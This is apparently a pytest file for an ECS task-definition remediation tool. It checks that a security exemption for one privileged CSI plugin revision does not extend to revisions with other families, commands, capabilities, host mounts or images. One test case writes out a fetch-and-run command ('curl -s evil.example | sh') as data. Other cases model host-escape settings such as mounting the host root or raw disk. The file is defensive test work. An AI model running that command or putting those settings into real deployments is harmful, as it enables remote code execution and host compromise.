"""Issue 19, class 2: exemptions reach no further than the approver approved.

An approver exempts one CSI node plugin revision with the real CLI (`exempt add`: account, family and fingerprint
recorded). Then the policed developer (their own assumed-role credentials through moto's STS, RegisterTaskDefinition
only) registers revisions that run the approved image digest with something else around it, and the real handler,
sweep and CLI judge them. Every check reads state back: the family's revisions in the emulator (a fixed copy
registered, or none) and the notice from the queue subscribed to the topic, which names the part that differs.
The organization variant (another member account) is in tests/test_org_hub_exemptions.py.
"""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta
from types import ModuleType
from typing import Any

import pytest
from test_handler import invoke

from conftest import load_handler
from demo.daemon_sandbox import call_event
from demo.sandbox import ACCOUNT, Sandbox
from ecs_remediate.cli.main import main

ATTACKER = f"arn:aws:sts::{ACCOUNT}:assumed-role/Dev/mallory"
DIGEST = "sha256:" + "d" * 64
OTHER_DIGEST = "sha256:" + "e" * 64
IMAGE = f"registry.example.com/csi-node@{DIGEST}"
UNTIL = (datetime.now(UTC).date() + timedelta(days=30)).isoformat()
FAST = ["--rate", "describe=1000/1000,list=1000/1000,register=1000/1000", "--max-attempts", "2", "-q"]
KUBELET = {"name": "kubelet", "host": {"sourcePath": "/var/lib/kubelet"}}


def node(**changes: Any) -> dict[str, Any]:
    """The approved privileged container (changes applied; None removes a member)."""
    container = {
        "name": "node",
        "image": IMAGE,
        "memory": 128,
        "privileged": True,
        "entryPoint": ["/csi-node"],
        "command": ["--endpoint=unix:///csi/csi.sock"],
        "mountPoints": [{"sourceVolume": "kubelet", "containerPath": "/var/lib/kubelet"}],
        "linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}},
        **changes,
    }
    return {k: v for k, v in container.items() if v is not None}


def csi(family: str = "csi-node", container: dict[str, Any] | None = None, **task: Any) -> dict[str, Any]:
    return {"family": family, "containerDefinitions": [container or node()], "volumes": [KUBELET], **task}


def revisions(box: Sandbox, family: str) -> list[str]:
    return box.active_revisions(family)


def exempt(*args: str) -> None:
    stdout, stderr = io.StringIO(), io.StringIO()
    code = main(["exempt", "add", *args, "--reason", "CSI node plugin (SEC-9)", "--until", UNTIL], stdout, stderr)
    assert code == 0, stderr.getvalue()


def registered_by_attacker(box: Sandbox, attacker: Sandbox, params: dict[str, Any]) -> tuple[dict[str, Any], str]:
    response = attacker.register(params)
    return sandbox_event(box, params, response), str(response["taskDefinition"]["taskDefinitionArn"])


def sandbox_event(box: Sandbox, params: dict[str, Any], response: dict[str, Any]) -> dict[str, Any]:
    return box.event_for(params, response, user_arn=ATTACKER)


@pytest.fixture
def attacker(sandbox: Sandbox) -> Sandbox:
    return sandbox.as_principal("Dev", "mallory")


@pytest.fixture
def approved(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> tuple[ModuleType, str]:
    """csi-node:1 registered by the platform team and exempted by an approver with the CLI; the function loaded."""
    handler = load_handler(sandbox, monkeypatch)
    arn = str(sandbox.register(csi())["taskDefinition"]["taskDefinitionArn"])
    exempt(arn)
    return handler, arn


def test_the_approved_content_stays_exempt_in_later_revisions(
    sandbox: Sandbox, attacker: Sandbox, approved: tuple[ModuleType, str]
) -> None:
    """The control: a later revision with only its environment and memory changed is what the approver saw."""
    handler, _ = approved
    params = csi(container=node(memory=256, environment=[{"name": "LOG", "value": "debug"}]))
    event, arn = registered_by_attacker(sandbox, attacker, params)
    assert invoke(handler, event)["outcome"] == "exempt"
    assert revisions(sandbox, "csi-node")[-1] == arn  # no copy registered
    [note] = sandbox.inbox()
    assert note.payload["outcome"] == "exempt" and "SEC-9" in note.payload["exemption"]
    assert note.payload["exemptionMismatch"] == ""


@pytest.mark.parametrize(
    ("name", "params", "part", "named"),
    [
        ("same digest, another family", csi("miner"), "other family", "exempt for family csi-node only"),
        (
            "same digest, its own entryPoint and command",
            csi(container=node(entryPoint=["/bin/sh", "-c"], command=["curl -s evil.example | sh"])),
            "other command",
            "runs another entryPoint, command than approved",
        ),
        (
            "same digest, pidMode host and / mounted",
            csi(
                container=node(
                    mountPoints=[
                        {"sourceVolume": "kubelet", "containerPath": "/var/lib/kubelet"},
                        {"sourceVolume": "host", "containerPath": "/host"},
                    ]
                ),
                pidMode="host",
                volumes=[KUBELET, {"name": "host", "host": {"sourcePath": "/"}}],
            ),
            "more host access",
            "(task): pid-mode host",
        ),
        (
            "same digest, one more capability",
            csi(container=node(linuxParameters={"capabilities": {"add": ["SYS_ADMIN", "SYS_MODULE"]}})),
            "more host access",
            "node: capability SYS_MODULE",
        ),
        ("same digest, run as root", csi(container=node(user="0")), "other command", "runs another user than approved"),
        (
            "same digest, the host's disk through a local volume",
            csi(
                container=node(
                    mountPoints=[
                        {"sourceVolume": "kubelet", "containerPath": "/var/lib/kubelet"},
                        {"sourceVolume": "disk", "containerPath": "/disk"},
                    ]
                ),
                volumes=[
                    KUBELET,
                    {
                        "name": "disk",
                        "dockerVolumeConfiguration": {
                            "scope": "task",
                            "driver": "local",
                            "driverOpts": {"type": "ext4", "device": "/dev/xvda1"},
                        },
                    },
                ],
            ),
            "more host access",
            "node: docker-volume",
        ),
        (
            "another digest in the approved family",
            csi(container=node(image=f"attacker.example/miner@{OTHER_DIGEST}")),
            "other digest",
            "runs sha256:eeeeeeeeeeee...",
        ),
    ],
)
def test_a_revision_that_differs_from_the_approved_one_is_fixed_and_the_notice_names_the_part(
    sandbox: Sandbox,
    attacker: Sandbox,
    approved: tuple[ModuleType, str],
    name: str,
    params: dict[str, Any],
    part: str,
    named: str,
) -> None:
    handler, _ = approved
    event, arn = registered_by_attacker(sandbox, attacker, params)
    result = invoke(handler, event)
    assert result["outcome"] == "remediated", name
    family = params["family"]
    copy = sandbox.describe(result["new_task_definition_arn"])["taskDefinition"]
    assert revisions(sandbox, family)[-1] == copy["taskDefinitionArn"] != arn  # a fixed copy is the latest
    assert [c.get("privileged") for c in copy["containerDefinitions"]] == [False]
    [note] = sandbox.inbox()
    assert note.payload["outcome"] == "remediated"
    assert part in note.payload["exemptionMismatch"].split(", "), note.payload["exemption"]
    assert note.payload["exemption"].startswith(part) and named in note.payload["exemption"], note.payload["exemption"]
    assert "evil.example" not in json.dumps(note.payload)  # the command is named as a member, never its value


def test_a_legacy_image_digest_item_exempts_nothing_and_every_sweep_names_it(
    sandbox: Sandbox, attacker: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An item of earlier versions keyed by the digest alone: too broad. The function fixes what it covered, and
    the sweep (CLI scan: summary and JSON rows) reports it, until an approver migrates and removes it."""
    sandbox.exempt(DIGEST, "CSI node plugin (an item of earlier versions)", UNTIL)
    handler = load_handler(sandbox, monkeypatch)
    event, arn = registered_by_attacker(sandbox, attacker, csi("miner"))
    result = invoke(handler, event)
    assert result["outcome"] == "remediated" and revisions(sandbox, "miner")[-1] == result["new_task_definition_arn"]
    [note] = sandbox.inbox()
    assert note.payload["exemptionMismatch"] == "too broad"
    assert f"ecs-remediate exempt add {arn}" in note.payload["exemption"]
    untouched = str(sandbox.register(csi("csi-node"))["taskDefinition"]["taskDefinitionArn"])
    stdout, stderr = io.StringIO(), io.StringIO()
    code = main(["scan", "--output", "json", *FAST], stdout, stderr)
    rows = {row["taskDefinitionArn"]: row for row in json.loads(stdout.getvalue())}
    assert code == 1 and rows[untouched]["status"] == "FAIL"
    assert (
        rows[untouched]["error"].startswith("not exempt: too broad")
        and rows[untouched]["exemptionMismatch"] == "too broad"
    )
    assert (
        "image-digest exemption(s) in the registry are too broad" in stderr.getvalue() and DIGEST in stderr.getvalue()
    )


def test_migrate_approves_what_the_legacy_item_covered_for_its_own_family_only(
    sandbox: Sandbox, attacker: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in sandbox.env().items():
        monkeypatch.setenv(name, value)
    covered = str(sandbox.register(csi())["taskDefinition"]["taskDefinitionArn"])
    sandbox.exempt(DIGEST, "CSI node plugin", UNTIL)
    stdout, stderr = io.StringIO(), io.StringIO()
    assert main(["exempt", "migrate", "--region", sandbox.region], stdout, stderr) == 0, stderr.getvalue()
    assert f"approved {covered} for family csi-node until {UNTIL}" in stdout.getvalue()
    assert f"ecs-remediate exempt remove {DIGEST}" in stderr.getvalue()
    assert main(["exempt", "remove", DIGEST], io.StringIO(), io.StringIO()) == 0  # the documented last step
    handler = load_handler(sandbox, monkeypatch)
    same = csi(container=node(memory=512))
    event, arn = registered_by_attacker(sandbox, attacker, same)
    assert invoke(handler, event)["outcome"] == "exempt" and revisions(sandbox, "csi-node")[-1] == arn
    event, _ = registered_by_attacker(sandbox, attacker, csi("miner"))
    assert invoke(handler, event)["outcome"] == "remediated"  # the migrated approval is its family's alone
    notes = {n.payload["outcome"]: n for n in sandbox.inbox()}
    assert notes["remediated"].payload["exemptionMismatch"] == "other family"


def test_the_scheduled_sweep_summary_names_too_broad_items(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    sandbox.exempt(DIGEST, "CSI node plugin", UNTIL)
    handler = load_handler(sandbox, monkeypatch, MODE="report")
    from demo.sandbox import LambdaContext

    handler.sweep_handler({"scope": "active"}, LambdaContext())
    [note] = sandbox.inbox()  # nothing else to report: the item alone is worth a summary
    assert note.payload["kind"] == "sweep" and note.payload["tooBroadExemptions"] == [DIGEST]
    assert "1 too-broad exemption(s)" in note.subject


def test_a_daemon_revision_follows_the_same_rules(
    sandbox: Sandbox, attacker: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Daemon task definitions (no tags; the same registry): the approval of the sensor covers its family only, and
    a daemon that shares the host's PID namespace on top of it is more host access."""
    handler = load_handler(sandbox, monkeypatch)
    sensor = {"name": "sensor", "image": f"vendor.example/sensor@{DIGEST}", "privileged": True, "command": ["--run"]}
    source = str(
        sandbox.client("ecs").register_daemon_task_definition(family="sensor", containerDefinitions=[sensor])[
            "daemonTaskDefinitionArn"
        ]
    )
    exempt(source)

    def daemon(params: dict[str, Any]) -> dict[str, Any]:
        arn = attacker.client("ecs").register_daemon_task_definition(**params)["daemonTaskDefinitionArn"]
        event = call_event(
            sandbox, "RegisterDaemonTaskDefinition", params, {"daemonTaskDefinitionArn": arn}, user_arn=ATTACKER
        )
        return invoke(handler, event)

    assert daemon({"family": "sensor", "containerDefinitions": [sensor], "memory": "512"})["outcome"] == "exempt"
    assert (
        daemon({"family": "sensor", "containerDefinitions": [sensor], "pidMode": "shared"})["outcome"] == "remediated"
    )
    assert daemon({"family": "miner", "containerDefinitions": [sensor]})["outcome"] == "remediated"
    notes = [n.payload for n in sandbox.inbox()]
    assert [(n["outcome"], n["exemptionMismatch"]) for n in notes] == [
        ("exempt", ""),
        ("remediated", "more host access"),
        ("remediated", "other family"),
    ]
    assert "pid-mode shared" in notes[1]["exemption"]
